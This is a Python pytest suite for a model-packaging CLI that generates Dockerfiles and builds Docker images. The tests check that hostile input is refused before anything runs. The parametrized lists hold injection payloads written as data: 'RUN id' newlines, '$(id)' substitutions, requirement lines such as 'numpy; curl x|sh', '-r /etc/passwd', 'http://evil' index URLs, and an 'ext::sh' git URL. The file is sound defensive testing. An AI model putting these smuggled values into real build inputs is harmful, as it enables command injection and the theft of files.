"""What is hostile is refused before anything is written or started, whichever door it comes by.

The texts are those of the advisories on tools that build images of models. Every refusal is an exit
status and one line that says what is wrong.
"""

from __future__ import annotations

import dataclasses
import json
import shutil
import unicodedata
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

import flavorkit
from flavorkit import manifest
from flavorkit.cli import main
from flavorkit.docker.dockerfile import dockerfile
from flavorkit.docker.model import PackedModel
from flavorkit.docker.origin import Origin
from flavorkit.docker.plan import Options, recipe_of
from flavorkit.environment.wheel import OwnWheel
from flavorkit.errors import FlavorkitError, RequirementError
from flavorkit.trust import signing_key
from tests.tracking.workspace import workspace

__all__ = ["workspace"]

DOORS = ["generate-dockerfile", "build-docker"]
NEVER_AN_IMAGE = [
    "python:3.11\nRUN id",
    "python:3.11\r\nRUN id",
    "python:3.11\u2028RUN id",
    "python:3.11 AS x\nRUN id",
    "--platform=x y",
    "-t x",
    "--help",
    "${VAR}",
    "$(id)",
    "a$(id)",
    "a;id",
    "`id`",
    "python@sha256:12",
    "ONBUILD RUN id",
    "pyth\u03bfn:3.11",  # a Greek letter
    "python:3.11\0",
    "python:3.11 # \\",
    "<<EOF",
    "",
]
OPTIONS = [
    *(("--base-image", text) for text in NEVER_AN_IMAGE),
    *(
        ("--platform", text)
        for text in ("x y", "linux/amd64 AS x", "linux/amd64\nRUN id", "$BUILDPLATFORM", "--pull")
    ),
    *(
        ("--env", text)
        for text in (
            *("A=1\nRUN id", "A B", "A B=1", "A\nRUN id=1", "=1", "A", "$A=1", "A=1\0", "-e=1"),
            *('A"=1', "A=\x1b[2J", "A=1\u2028RUN id", "FLAVORKIT_TRUST=all", "\u0410=1"),
        )
    ),
    *(
        ("--label", text)
        for text in ("a=1\nRUN id", "a b=1", "a", "=1", "a$(id)=1", 'a"=1', "a\n=1", "A=1", "a=\0")
    ),
    *(
        ("--apt-package", text)
        for text in (
            *("curl; id", "curl && id", "$(id)", "`id`", "-o=Dir::Etc=x", "--allow-downgrades"),
            *("curl\nRUN id", "../x.deb", "/tmp/x.deb", "curl wget", "CURL", "x", ""),
        )
    ),
    *(
        (option, text)
        for option in ("--index-url", "--extra-index-url")
        for text in (
            *("https://example.com/\nRUN id", "https://example.com/ --pre", "https://$(id)/"),
            *("file:///etc", "ext::sh -c id", "-i", "--trusted-host=x", "https://a@example.com/"),
            *("https://ada:s3cret@example.com/", "https://ada:s3/cret@example.com/", ""),
        )
    ),
    *(("--torch-backend", text) for text in ("cpu --pre", "--index", "cpu\nRUN id", "")),
    *(("--extra", text) for text in ("s3]; id", "--pre", "s3\nRUN id", "../x", "")),
]
NAMES = [text for text in NEVER_AN_IMAGE if text != "python@sha256:12"]
REQUIREMENTS = [
    "numpy; curl x|sh #",
    "numpy && id",
    "$(id)",
    "`id`",
    "--index-url http://evil",
    "-i http://evil",
    "--extra-index-url=http://evil",
    "-e git+https://evil/x",
    "-r /etc/passwd",
    "-c ../x",
    "--requirement=/etc/passwd",
    "-cconstraints.txt",
    "--find-links http://evil",
    "-f http://evil",
    "--trusted-host evil",
    "--global-option=x",
    "--config-settings x=y",
    "--no-index",
    "pkg @ file:///tmp/x",
    "pkg @ git+ext::sh -c id",
    "pkg @ https://evil/x.whl",
    "./local.whl",
    "/tmp/local.whl",
    "~/local.whl",
    "http://evil/x.whl",
    "numpy RUN id",
    "numpy\\\nRUN id",
    "n\u03c5mpy",
    "numpy\0",
    "numpy\x1b[2J",
    "numpy==1.0 --hash=sha256:$(id)",
    "numpy==1.0; os_name == __import__('os')",
    "numpy\n" * 100_000,
]


@pytest.fixture
def refused(engines, tmp_path, monkeypatch):
    """Runs a command that must not do anything; its one line of error is returned."""
    canary = tmp_path / "canary"
    for program in ("docker", "podman", "buildah", "sh", "id", "git", "uv", "pip"):
        engines.install(program, f"echo > '{canary}'")
    working = tmp_path / "working"
    working.mkdir()
    monkeypatch.chdir(working)

    def run(door: str, *arguments: str) -> str:
        done = CliRunner().invoke(main, [door, *arguments])
        assert isinstance(done.exception, SystemExit), done.exc_info
        assert done.exit_code != 0
        assert done.stdout == ""
        lines = done.stderr.splitlines()
        usage = [line for line in lines if not line.startswith(("Usage:", "Try ")) and line]
        (line,) = usage
        assert line.startswith("Error: ")
        assert line.isprintable()
        assert not canary.exists()
        assert engines.calls == []
        assert list(working.iterdir()) == []
        return line

    return run


def altered(folder: Path, name: str, text: str) -> str:
    """A model with another file, signed by a key that is trusted."""
    (folder / name).write_text(text)
    manifest.write(folder, signing_key(create=True))
    return str(folder)


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize(("option", "text"), OPTIONS)
def test_hostile_options_are_refused(refused, iris_folder, door, option, text):
    line = refused(door, str(iris_folder), option, text)
    assert "cret" not in line  # a password is not shown either


@pytest.mark.parametrize("text", NAMES)
@pytest.mark.parametrize("flag", ["-t", "-n", "--tag", "--name"])
def test_hostile_names_of_images_are_refused(refused, iris_folder, flag, text):
    assert "is no name of an image" in refused("build-docker", str(iris_folder), flag, text)


def test_an_image_is_not_named_by_a_digest(refused, iris_folder):
    name = f"model@sha256:{'0' * 64}"
    assert "names a digest" in refused("build-docker", str(iris_folder), "-t", name)


@pytest.mark.parametrize("name", ["a,src=x", 'a"b', "a\nb"])
def test_the_path_of_a_secret_cannot_name_another(refused, iris_folder, tmp_path, name):
    (tmp_path / name).touch()
    line = refused("build-docker", str(iris_folder), "--netrc", str(tmp_path / name))
    assert "characters that no engine takes" in line


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize("line", REQUIREMENTS, ids=lambda line: line[:30])
def test_requirements_that_smuggle_something_are_refused(refused, iris_copy, door, line):
    model = altered(iris_copy, "requirements.txt", f"six\n{line}\n")
    with pytest.raises(RequirementError, match=r"."):
        PackedModel.fetch(model)
    refused(door, model)
    manifest.write(iris_copy, None)
    refused(door, model, "--trust", "all")


@pytest.mark.parametrize(
    "line", ["--index-url http://evil", "pkg @ file:///tmp/x", "-r x", "$(id)"]
)
def test_limits_that_smuggle_something_are_refused(refused, iris_copy, line):
    (iris_copy / "requirements.txt").write_text("six\n-c constraints.txt\n")
    refused("generate-dockerfile", altered(iris_copy, "constraints.txt", f"{line}\n"))


@pytest.mark.parametrize(
    "line", ["numpy; curl x|sh", "$(id)", "numpy && id", "x\x1b[2J", "-r /etc/passwd"]
)
def test_what_no_option_of_pip_is_stays_out_though_options_are_let_in(refused, iris_copy, line):
    model = altered(iris_copy, "requirements.txt", f"{line}\n")
    refused("build-docker", model, "--allow-requirement-options")


def test_hashes_are_no_options(iris_copy, tmp_path):
    line = f"six==1.16.0 --hash=sha256:{'0' * 64}"
    model = altered(iris_copy, "requirements.txt", f"{line}\n")
    done = CliRunner().invoke(main, ["generate-dockerfile", model, "-d", str(tmp_path / "out")])
    assert done.exit_code == 0, done.output
    assert (tmp_path / "out" / "requirements.txt").read_text() == f"{line}\n"
    assert line not in (tmp_path / "out" / "Dockerfile").read_text()


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize(
    "version",
    [
        "3.11\nRUN id",
        "3.11-slim AS x",
        "3.11 ",
        "$(id)",
        "../x",
        "2.7.18",
        "3.10.2",
        "3",
        "4.0",
        "3.11.1.1",
        "\u0663.11",  # an Arabic three
        3.11,
        ["3.11"],
        None,
    ],
)
def test_a_version_of_python_is_one_and_nothing_else(refused, iris_copy, door, version):
    text = yaml.safe_dump({"python": version}, allow_unicode=True)
    model = altered(iris_copy, "python_env.yaml", text)
    assert "Python" in refused(door, model)


@pytest.mark.parametrize("key", ["model_id", "model_uuid", "run_id"])
def test_a_descriptor_cannot_write_lines_into_labels(refused, iris_copy, key):
    descriptor = yaml.safe_load((iris_copy / "MLmodel").read_text())
    descriptor = {**descriptor, "model_id": None, key: "x\nRUN id"}
    model = altered(iris_copy, "MLmodel", yaml.safe_dump(descriptor))
    assert "characters that do not print" in refused("generate-dockerfile", model)


def test_a_link_in_the_model_is_refused(refused, iris_copy, tmp_path):
    (tmp_path / "id_ed25519").write_text("a secret")
    (iris_copy / "key").symlink_to(tmp_path / "id_ed25519")
    for arguments in ([], ["--trust", "all"]):
        line = refused("generate-dockerfile", str(iris_copy), *arguments)
        assert "key is a link" in line
        assert "a secret" not in line


def test_a_model_of_a_stranger_is_refused(refused, iris_folder, keys_home):
    assert "--trust sha256:" in refused("build-docker", str(iris_folder))


def test_a_link_to_a_folder_of_wheels_outside_brings_nothing_along(iris_folder, tmp_path):
    secrets = tmp_path / "secrets"
    secrets.mkdir()
    (secrets / "id.whl").write_text("a secret")
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    (wheels / "six-1-py3-none-any.whl").write_text("six")
    (wheels / "evil.whl").symlink_to(secrets / "id.whl")
    (wheels / "more").symlink_to(secrets)
    out = tmp_path / "out"
    arguments = ["generate-dockerfile", str(iris_folder), "--wheels", str(wheels), "-d", str(out)]
    assert CliRunner().invoke(main, arguments).exit_code == 0
    assert [path.name for path in (out / "wheels").iterdir()] == ["six-1-py3-none-any.whl"]
    assert not any(path.is_symlink() for path in out.rglob("*"))


PATHS = [
    "with spaces",
    "'single' \"double\"",
    "$HOME ${PATH}",
    "$(id) `id`",
    "; id #",
    "--help",
    "two\nRUN lines",
    "a\x1b[2J",
    "back\\slash",
    "\N{GREEK SMALL LETTER ALPHA}",
]


@pytest.mark.parametrize("name", PATHS)
def test_the_path_of_a_model_never_comes_into_the_dockerfile(refused, iris_folder, tmp_path, name):
    folder = Path(shutil.copytree(iris_folder, tmp_path / "models" / name))
    plain, odd = tmp_path / "plain", tmp_path / "odd"
    for model, out in ((iris_folder, plain), (folder, odd)):
        done = CliRunner().invoke(main, ["generate-dockerfile", str(model), "-d", str(out)])
        assert done.exit_code == 0, done.output
    for path in plain.iterdir():
        assert (odd / path.name).read_bytes() == path.read_bytes()


@pytest.mark.parametrize("name", ["gone\nRUN id", "gone\0", "gone\x1b[2J", "$HOME", ""])
def test_an_odd_path_where_nothing_is_gives_one_line(refused, name):
    for door in DOORS:
        refused(door, "--", name)


@pytest.mark.parametrize(
    "name",
    ["iris\nRUN id", "iris\r", "iris\u2028x", "iris\0", "\x1b]8;;http://evil\x07", "x" * 40_000],
)
def test_a_name_out_of_a_registry_that_is_no_name_is_refused(iris_folder, name):
    """As another program may have written it into the database."""
    model = dataclasses.replace(PackedModel.fetch(str(iris_folder)), origin=Origin(name=name))
    with pytest.raises(FlavorkitError, match=r"the name of the model|the label"):
        recipe_of(model, OwnWheel(()), Options())


NAMES_OF_MODELS = [
    '"; id #',
    "$(id) ${HOME} `id`",
    "a' 'b",
    "<<EOF",
    "# x",
]


@pytest.mark.parametrize("name", NAMES_OF_MODELS)
def test_an_odd_name_out_of_a_registry_stays_a_value(workspace, iris_model, name):
    flavorkit.sklearn.log_model(iris_model, name="iris", registered_model_name=name)
    model = PackedModel.fetch(f"models:/{name}/1")
    values = values_of(dockerfile(recipe_of(model, OwnWheel(()), Options())))
    assert values["FLAVORKIT_MODEL_NAME"] == name
    assert values["io.flavorkit.model.name"] == name


@pytest.mark.parametrize(
    "value", ['"', "\\", '\\"', "$HOME", "\\$HOME", "a\\", "'", "#", "`id`", "${x:-y}"]
)
def test_a_value_is_read_as_it_was_given(iris_folder, tmp_path, value):
    out = tmp_path / "out"
    given = ["--env", f"SAID={value}", "--label", f"com.example.said={value}"]
    done = CliRunner().invoke(
        main, ["generate-dockerfile", str(iris_folder), *given, "-d", str(out)]
    )
    assert done.exit_code == 0, done.output
    values = values_of((out / "Dockerfile").read_text())
    assert values["SAID"] == values["com.example.said"] == value


def values_of(text: str) -> dict[str, str]:
    """The variables and labels of a Dockerfile, as its parser unquotes them.

    Every line is looked at: whatever is neither one that we write nor a value fails.
    """
    known = {"FROM", "RUN", "COPY", "ADD", "ENV", "LABEL", "EXPOSE", "WORKDIR", "STOPSIGNAL"}
    known |= {"HEALTHCHECK", "ENTRYPOINT", "CMD", "USER", "#", ""}
    values = {}
    for line in text.replace(" \\\n    ", "\nVALUE ").splitlines():
        instruction, _, rest = line.partition(" ")
        assert instruction in known | {"VALUE"}
        assert all(unicodedata.category(character) not in {"Cc", "Zl", "Zp"} for character in line)
        if instruction in {"RUN", "COPY", "ADD", "ENTRYPOINT", "CMD"}:
            json.loads(rest[rest.index("[") :])
        key, equals, value = rest.partition("=")
        if instruction in {"ENV", "LABEL", "VALUE"} and equals and value[0] == '"':
            values[key] = unquoted(value)
    return values


def unquoted(text: str) -> str:
    """A word in double quotes, in which a backslash escapes these three and nothing else."""
    assert text[0] == text[-1] == '"'
    found, rest = "", text[1:-1]
    while rest:
        if rest[0] == "\\" and rest[1:2] in {"\\", '"', "$"}:
            rest = rest[1:]
        else:
            assert rest[0] not in {'"', "$"}
        found, rest = found + rest[0], rest[1:]
    return found
